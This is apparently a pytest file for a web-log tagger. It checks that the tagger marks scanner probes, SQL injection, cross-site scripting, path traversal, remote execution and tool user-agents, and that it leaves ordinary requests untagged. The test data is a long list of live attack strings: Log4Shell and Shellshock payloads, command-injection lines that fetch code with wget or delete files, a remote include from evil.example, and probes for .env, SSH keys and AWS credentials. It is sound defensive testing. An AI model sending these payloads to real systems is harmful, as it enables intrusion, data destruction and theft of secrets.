"""Tags: what must carry one, and the ordinary requests that must not."""
# ruff: noqa: E501 - tables of targets

import polars as pl
import pytest

from ingest import tags
from ingest.requests import fields

BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"
GOOGLE = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"


def tags_of(target: str, status: int = 404, agent: str = BROWSER, referrer: str = "-", method: str = "GET") -> set[str]:
    """The tags of one request."""
    frame = pl.DataFrame(
        {"method": method, "target": target, "domain": None, "agent": agent, "referrer": referrer},
        schema_overrides={"domain": pl.String},
    ).with_columns(pl.lit(status, dtype=pl.Int16).alias("http.response.status_code"))
    [text] = tags.add(frame.hstack(fields(frame["target"])))["tags"]
    return set(text[1:-1].replace('"', "").split(",")) if text else set()


@pytest.mark.parametrize(
    "target",
    [
        "/.env", "/api/.env", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.aws/credentials", "/.htpasswd", "/.DS_Store",
        "/.bash_history", "/.ssh/id_rsa", "/.vscode/sftp.json", "/wp-config.php.bak", "/wp-admin/setup-config.php",
        "/wp-content/uploads/82e67.php", "/wp-content/plugins/x/upload.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/_ignition/execute-solution", "/HNAP1/", "/boaform/admin/formLogin?username=ec8", "/GponForm/diag_Form?images/",
        "/setup.cgi?next_file=netgear.cfg", "/wls-wsat/CoordinatorPortType", "/Telerik.Web.UI.WebResource.axd?type=rau",
        "/w00tw00t.at.ISC.SANS.DFind:)", "/muieblackcat", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "/sdk", "/evox/about",
        "/c99.php", "/wso2.php", "/config.php.bak", "/backup.zip", "/www.tar.gz", "/dump.sql", "/backup/site.tar.gz", "/old/.env",
        "/bak/config.json", "/shell?cd+/tmp;rm+-rf+*", "/%2e%65nv", "//.git/config", "/CFIDE/administrator/", "/.well-known.zip", "/phpinfo.php", "/telescope/requests",
    ],
)  # fmt: skip
@pytest.mark.parametrize("status", [200, 302, 404])
def test_probes_whatever_the_answer(target: str, status: int) -> None:
    assert "probe" in tags_of(target, status)


@pytest.mark.parametrize(
    "target",
    [
        "/phpmyadmin/", "/phpMyAdmin-5.1.1/index.php?lang=en", "/pma/index.php", "/phpmyadmin2016/", "/myadmin/", "/mysqladmin/",
        "/dbadmin/", "/mysql/mysqlmanager/", "/adminer-4.8.1.php", "/manager/html", "/solr/admin/info/system?wt=json", "/actuator/env",
        "/server-status", "/xmlrpc.php", "/wp-includes/wlwmanifest.xml", "//pma/scripts/setup.php", "/docker-compose.yml",
        "/mysite.sql", "/secrepo.com.tar.gz", "/data/x.sql", "/page.php~", "/.unknown", "/jenkins/", "/elfinder/connector.php",
    ],
)  # fmt: skip
def test_hunted_paths_are_probes_unless_their_owner_is_answered(target: str) -> None:
    assert "probe" in tags_of(target, 404)
    assert "probe" in tags_of(target, 403)
    assert "probe" not in tags_of(target, 200)
    assert "probe" not in tags_of("/xmlrpc.php", 200, method="POST")


@pytest.mark.parametrize(
    "target",
    ["/wp-login.php", "/blog/wp-admin/", "/wordpress/", "/administrator/index.php", "/user/login", "/admin/login.php", "/owa/", "/license.txt"],
)  # fmt: skip
def test_content_management_is_hunted_only_where_it_is_absent(target: str) -> None:
    assert "probe" in tags_of(target, 404)
    for status in (200, 301, 302, 403):
        assert "probe" not in tags_of(target, status)


def test_crawlers_that_follow_dead_links_do_not_probe() -> None:
    assert tags_of("/papers.shtml.bak", 404, GOOGLE) == {"bot"}
    assert tags_of("/wp-login.php", 404, GOOGLE) == {"bot", "login"}
    assert "probe" in tags_of("/.env", 404, GOOGLE)
    assert "probe" in tags_of("/manager/html", 404, "Mozilla/5.0 zgrab/0.x")


@pytest.mark.parametrize(
    "target",
    [
        "/?id=1%27%20OR%20%271%27=%271", "/?id=1+UNION+ALL+SELECT+NULL,NULL--+-", "/?id=1/**/union/**/select/**/1,2", "/?id=-1+union+select+1,2,user()",
        "/?id=1%20and%201=1", "/?id=1'", "/?u=admin'--+", "/?id=1;waitfor+delay+'0:0:5'--", "/?id=1%20AND%20SLEEP(5)", "/?id=(select+count(*)+from+t)",
        "/?a=1')+order+by+10--", "/?x=extractvalue(1,concat(0x7e,version()))", "/?q=information_schema.tables", "/?id=1%2527%2520or%25201%253D1",
        "/index.php/2-x/1--1'%20OR%202%2b196-196-1=0%2b0%2b0%2b1%20or%20'01Fg5alL'='",
    ],
)  # fmt: skip
def test_sql_injection(target: str) -> None:
    assert "sqli" in tags_of(target, 200)


@pytest.mark.parametrize(
    "target",
    [
        "/?a=<script>alert(1)</script>", "/?a=%3Cimg+src=x+onerror=y%3E", "/?a=%253Csvg/onload=1%253E", "/?a=prompt(", "/?a=javascript:alert(1)",
        "/?a=%22+onmouseover=%22x", "/?a=document.cookie", "/?a=<br", "/?a=<p", "/?nsextt='%22--%3E%3C/style%3E%3CscRipt%3E", "/%3Cscript%3E",
    ],
)  # fmt: skip
def test_cross_site_scripting(target: str) -> None:
    assert "xss" in tags_of(target, 200)


@pytest.mark.parametrize(
    "target",
    [
        "/../../etc/passwd", "/a?f=../../../../boot.ini", "/cgi-bin/.%2e/%2e%2e/bin/sh", "/%252e%252e%252fsecret", "/..%2f..%2fx", "/..%5c..%5cwin.ini",
        "/%c0%ae%c0%ae/x", "/a?p=/etc/passwd%00", "/proc/self/environ", "/WEB-INF/web.xml", "/a/..;/manager", "/x?f=%2e%2e%2fadmin", "/..%2Fadmin",
        "/%%32%65%%32%65/x",
    ],
)  # fmt: skip
def test_traversal(target: str) -> None:
    assert "traversal" in tags_of(target, 200)


@pytest.mark.parametrize(
    "target",
    [
        "/?x=${jndi:ldap://a/b}", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D", "/?cmd=cat+/etc/passwd", "/?exec=whoami", "/?a=1;wget+http://1.2.3.4/x",
        "/?a=1|id", "/?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
        "/?q=user/password&name[%23post_render][]=passthru", "/?class.module.classLoader.URLs%5B0%5D=0", "/x.php?inc=http://evil.example/r.txt?",
        "/login=$(echo${IFS}x)", "/?a={{7*7}}", "/?a=%25{%23context}", "/a?x=phpinfo()", "/cgi-bin/%2e%2e/bin/sh", "/?todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://x/m",
    ],
)  # fmt: skip
def test_remote_execution(target: str) -> None:
    assert "rce" in tags_of(target, 200)


@pytest.mark.parametrize(
    "header",
    ["() { :;}; /bin/bash -c id", "${jndi:ldap://x/a}", '}__test|O:21:"JDatabaseDriverMysqli":3', "<?php echo 1"],
)
def test_attacks_in_headers(header: str) -> None:
    assert "rce" in tags_of("/", 200, agent=header)
    assert "rce" in tags_of("/", 200, referrer=header)


@pytest.mark.parametrize(
    "target",
    [
        "/", "/manual/select.html", "/search?q=european+union", "/search?q=union+select+committee", "/search?q=credit+union+or+bank", "/?q=o'reilly",
        "/?q=rock+'n'+roll", '/?q="foo"+and+bar+in+town', "/blog/select-from-union-workers", "/wiki/System_(computing)", "/wiki/Include_(C)",
        "/javadoc/java.lang.String.html", "/docs/php.ini", "/?q=javascript:+the+good+parts", "/?url=https%3A%2F%2Fa.example%2Fx.png", "/?r=..%2Findex.php",
        "/a/../b.html", "/?t=SGVsbG8gd29ybGQ%3D&s=abc%2Bdef%2F%3D", "/?a=1&id=2&ls&cat&b=3", "/?c=php&do=id&x=cat", "/tutorial?tag=python+|+php",
        "/p?price=1-2;3", "/.well-known/security.txt", "/.well-known/acme-challenge/abc", "/wp-content/plugins/revslider/public/assets/css/rs6.css",
        "/wp-content/uploads/2024/05/photo-1.jpg", "/downloads/release-1.0.tar.gz", "/docs/sdk/", "/blog/wp-config-explained", "/a?x=p%3C0.05",
        "/index.php?option=com_content&view=article&id=5:alert-news", "/cmd/list?cmd=getxicoreajax", "/shop?order=by+2+price", "/feed?size=15",
        "/item/12--red-shoes", "/apps/files/?dir=/a&fileid=1", "/cart;jsessionid=A1B2", "/?q=c%2B%2B+for+(i=0;i<n;i++)", "/concat/a,b/c.html", "/update/list",
        "/?utm_source=x&utm_campaign=a|b", "/?filter[name]=x&page[size]=3", "/Telerik.Web.UI.WebResource.axd?_TSM_=x", "/CFIDE/scripts/cfform.js", "/path/2024/10/",
    ],
)  # fmt: skip
def test_ordinary_requests_carry_no_tag_of_attack(target: str) -> None:
    assert tags_of(target, 200) <= {"static"}


@pytest.mark.parametrize(
    ("target", "is_login"),
    [
        ("/wp-login.php", True), ("/login", True), ("/Login.aspx", True), ("/sa/3204/login.php", True), ("/user/login/", True), ("/users/sign_in", True),
        ("/admin/login.php?next=/", True), ("/account/signin", True), ("/zm/api/host/login.json", True), ("/j_security_check", True),
        ("/administrator/index.php", True), ("/login.css", False), ("/blog/how-to-login-to-x", False), ("/logins-of-the-week", False),
        ("/catalog", False), ("/plugin", False),
    ],
)  # fmt: skip
def test_login(target: str, is_login: bool) -> None:
    assert ("login" in tags_of(target, 200)) is is_login


@pytest.mark.parametrize(
    ("agent", "expected"),
    [
        ("-", {"empty-agent"}), ("", {"empty-agent"}), (BROWSER, set()), (GOOGLE, {"bot"}), ("curl/8.5.0", {"script-agent"}), ("python-requests/2.31", {"script-agent"}),
        ("Go-http-client/1.1", {"script-agent"}), ("Wget/1.21", {"script-agent"}), ("sqlmap/1.7#stable (https://sqlmap.org)", {"tool-agent"}),
        ("Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:getinfo)", {"tool-agent"}), ("DirBuster-1.0-RC1 (http://www.owasp.org/x)", {"tool-agent"}),
        ("Mozilla/5.0 zgrab/0.x", {"tool-agent"}), ("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", {"tool-agent", "bot"}),
        ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", {"bot"}), ("Tiny Tiny RSS/1.11", {"bot"}),
        ("Mozilla/5.0 (Linux; Android 9; CUBOT X19 Build) AppleWebKit/537.36 Chrome/80.0 Mobile Safari/537.36", set()),
        ("Apache/2.4.7 (Ubuntu) PHP/5.5.9 OpenSSL/1.0.1f (internal dummy connection)", {"bot"}), ("Mozilla/5.0", {"script-agent"}),
        ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 HeadlessChrome/120.0 Safari/537.36", {"script-agent"}),
    ],
)  # fmt: skip
def test_agents(agent: str, expected: set[str]) -> None:
    assert tags_of("/", 200, agent) == expected


def test_static_files_are_told_by_extension() -> None:
    assert tags_of("/a/b.CSS?v=3", 200) == {"static"}
    assert tags_of("/photo.jpg", 404) == {"static"}
    assert tags_of("/page.html", 200) == set()


def test_proxy_requests() -> None:
    assert tags_of("www.example.com:443", 405, method="CONNECT") == {"proxy"}
    assert tags_of("http://azenv.net/", 200) == {"proxy"}


def test_every_distinct_value_keeps_its_own_tags() -> None:
    targets = ["/a.css", "/.env", "/a.css", "/?a=<script>"]
    frame = pl.DataFrame({"target": targets, "method": "GET", "agent": ["-", "x", "curl/8", "-"]}).with_columns(
        pl.lit(None, dtype=pl.String).alias("domain"), pl.lit(200, dtype=pl.Int16).alias("http.response.status_code")
    )
    found = tags.add(frame.hstack(fields(frame["target"])))["tags"].to_list()
    assert found == ['["static","empty-agent"]', '["probe"]', '["static","script-agent"]', '["xss","empty-agent"]']
